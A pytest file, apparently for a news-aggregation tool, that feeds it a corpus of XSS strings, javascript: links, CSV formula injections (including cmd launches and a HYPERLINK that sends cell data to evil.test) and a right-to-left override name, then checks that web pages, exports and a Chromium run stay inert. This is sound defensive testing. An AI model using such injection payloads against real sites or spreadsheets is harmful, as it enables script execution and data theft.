"""Hostile content: a corpus written here (script tags, event handlers, SVG and javascript: links, quotes that break
attributes, spreadsheet formulas, right-to-left overrides) is built, served, exported, and opened in Chromium.

Every payload that could run announces itself (an alert, or window.__pwned), and every URL it could load points to
another origin (evil.test): the browser part fails on any dialog, any such flag, or any request off the server's
origin. It skips, with the reason, when Chromium or Playwright is missing."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import urllib.request

import pytest

from conftest import ROOT

pytestmark = pytest.mark.slow

XSS = ['<script>alert("t")</script>', '"><img src=x onerror="window.__pwned=1;alert(1)">',
       "'><svg onload=alert(2)>", '<a href="javascript:alert(3)">click</a>', '<img src="http://evil.test/i.png">',
       '<iframe src="http://evil.test/"></iframe>', '<style>@import "http://evil.test/c.css";</style>']
FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1"]
RTL = "\u202egnp.exe"


def _corpus(root):
    root.mkdir()
    for i, payload in enumerate(XSS):
        (root / f"x{i}.txt").write_text(
            f"date 2011-02-0{1 + i % 8}\ntitle Minister {payload} resigns\nurl javascript:alert({i})//\n"
            f"source Herald\"><script>alert(9)</script>\n\n"
            f"Minister Omar {payload} O'Brien-Smith said on Tuesday that the {payload} dam in Veldra held. "
            f"\"The dam {payload} will hold,\" said Omar O'Brien-Smith {RTL}, the water minister.\n\n"
            f"Police in Veldra arrested {i + 2} protesters on Monday, the ministry said.\n", encoding="utf-8")
    (root / "formulas.jsonl").write_text("\n".join(json.dumps({
        "id": f"f{i}", "title": f, "date": "2011-02-03", "url": f"http://x.test/{i}", "source": f,
        "text": f"{f} said the dam in Veldra would hold. \"{f}\", said Omar O'Brien-Smith on Tuesday. "
                f"Police arrested {i + 3} people in Veldra on Monday."}) for i, f in enumerate(FORMULAS)),
        encoding="utf-8")
    (root / "page.html").write_text(
        '<html><head><title>Dam "><script>alert(5)</script></title></head><body><article>'
        "<h1>Dam <svg onload=alert(6)></h1><p>Minister Omar O'Brien-Smith said on Tuesday that the dam in "
        "Veldra held.</p><p><a href=\"javascript:alert(7)\">more</a> Police arrested four people in Veldra on "
        "Monday, the ministry said in a statement.</p><script>alert(8)</script></article></body></html>",
        encoding="utf-8")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    import storyline
    base = tmp_path_factory.mktemp("hostile")
    _corpus(base / "in")
    storyline.build([base / "in"], out_dir=base / "out")
    return base / "out", json.loads((base / "out" / "storyline.json").read_text())


def _pages(data) -> list[str]:
    urls = ["/", "/entities", "/claims", "/search?q=minister", "/search?q=%3Cscript%3E", "/api"]
    urls += [f"/story/{s['id']}?view=all" for s in data["stories"][:5]]
    urls += [f"/article/{a['id']}" for a in data["articles"] if a["status"] != "skipped"][:8]
    urls += [f"/entity/{e['id']}" for e in data["entities"][:8]]
    return urls


def _no_live_markup(html: str, where: str):
    assert "<script>alert" not in html and "<svg onload" not in html and "<iframe" not in html, where
    assert not re.search(r"<img[^>]+onerror", html), where
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*javascript:""", html, re.I), where
    assert "http://evil.test" not in re.findall(r"""(?:src|href)="([^"]*)""", html), where


def test_pages_escape_everything(hostile):
    from fastapi.testclient import TestClient
    from storyline.web import create_app
    out, data = hostile
    assert any("<script>" in (a["title"] or "") for a in data["articles"])   # the payloads reached the build
    c = TestClient(create_app(out))
    for url in _pages(data):
        r = c.get(url)
        assert r.status_code == 200, url
        _no_live_markup(r.text, url)
        assert "script-src 'self'" in r.headers["content-security-policy"]


def test_csv_export_neutralises_formulas(hostile, tmp_path):
    from storyline.export import export
    out, _ = hostile
    folder = export(out, "csv", tmp_path / "csv")
    cells = 0
    for f in folder.glob("*.csv"):
        for row in list(csv.reader(io.StringIO(f.read_text("utf-8"))))[1:]:
            for cell in row:
                cells += 1
                assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\uff1d", "\t", "\r"), (f.name, cell)
    assert cells and any("'=HYPERLINK" in c or "'+cmd" in c for f in folder.glob("*.csv") for c in [f.read_text()])


def test_html_and_markdown_exports_escape(hostile, tmp_path):
    from storyline.export import export
    out, _ = hostile
    html = export(out, "html", tmp_path / "s.html").read_text("utf-8")
    _no_live_markup(html, "html export")
    assert "<script" not in html.lower()
    md = export(out, "md", tmp_path / "r.md").read_text("utf-8")
    assert "<script>" not in md and "<img" not in md


# -- in Chromium -----------------------------------------------------------------------------------------------
CHROMIUM = os.environ.get("STORYLINE_CHROMIUM", "/usr/bin/chromium")


@pytest.fixture(scope="module")
def browser():
    exe = CHROMIUM if os.path.isfile(CHROMIUM) else shutil.which("chromium")
    if not exe:
        pytest.skip(f"Chromium not found at {CHROMIUM} (install it: scripts/sysdeps.sh)")
    sync = pytest.importorskip("playwright.sync_api", reason="Playwright for Python is not installed")
    with sync.sync_playwright() as p:
        try:
            b = p.chromium.launch(executable_path=exe, headless=True, args=["--no-sandbox", "--disable-gpu"])
        except Exception as e:   # a Chromium that cannot start here (no sandbox support, missing libraries)
            pytest.skip(f"Chromium cannot start here: {str(e).splitlines()[0]}")
        yield b
        b.close()


def _watch(page, origin: str) -> dict:
    seen = {"dialogs": [], "offsite": [], "errors": []}
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("request", lambda r: None if r.url.startswith((origin, "data:", "about:")) else seen["offsite"].append(r.url))
    page.on("pageerror", lambda e: seen["errors"].append(str(e)))
    return seen


def test_chromium_runs_no_payload(hostile, browser, tmp_path):
    out, data = hostile
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT / "src"), os.environ.get("PYTHONPATH", "")])}
    proc = subprocess.Popen([sys.executable, "-m", "storyline.cli", "serve", str(out), "--port", str(port), "-q"],
                            env=env)
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):
            try:
                urllib.request.urlopen(base + "/api/stories", timeout=1)
                break
            except OSError:
                time.sleep(0.1)
        page = browser.new_page()
        seen = _watch(page, base)
        for url in _pages(data):
            page.goto(base + url)
            assert page.evaluate("window.__pwned === undefined"), url
            for a in page.query_selector_all("a[href]"):   # a link that could run script is not a link
                assert not a.get_attribute("href").strip().lower().startswith("javascript:"), url
        from storyline.export import export
        html = export(out, "html", tmp_path / "s.html")
        page.goto(html.as_uri())
        assert page.evaluate("window.__pwned === undefined")
        offsite = [u for u in seen["offsite"] if not u.startswith("file://")]
        assert seen["dialogs"] == [] and offsite == [], seen
    finally:
        proc.terminate()
        proc.wait(10)
